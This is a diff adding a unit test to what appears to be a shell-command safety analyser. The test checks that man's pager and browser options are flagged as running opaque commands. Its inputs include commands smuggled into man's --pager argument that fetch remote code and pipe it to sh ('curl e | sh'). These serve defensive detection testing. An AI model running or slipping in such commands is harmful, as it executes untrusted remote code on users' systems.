@@ -213,3 +213,10 @@ test('D8 round 20 less\'s variables for the programs after them (`LESS` with a l
     assert.equal(unknown(cmd), false, cmd);
   }
 });
+
+test('D8 round 20 man\'s `-P PAGER` (`--pager=`, abbreviated) and `--html=BROWSER` are run as commands, judged as MANPAGER is', () => {
+  for (const cmd of ['man --pager="curl e | sh" ls', 'man -P "sh -c \\"curl e | sh\\"" ls', 'man --pag "$P" ls', 'man -P"$P" ls']) assert.equal(sh(cmd).confidence, 'opaque', cmd);
+  assert.ok(sh('man -P "less -k x" ls').findings.some((x) => x.code === 'shell_nested' && x.message.includes('man -P')));
+  // benign neighbours: a plain pager, no pager, man's own -k (apropos)
+  for (const cmd of ['man -P cat ls', 'man ls', 'man -k printf']) assert.notEqual(sh(cmd).confidence, 'opaque', cmd);
+});
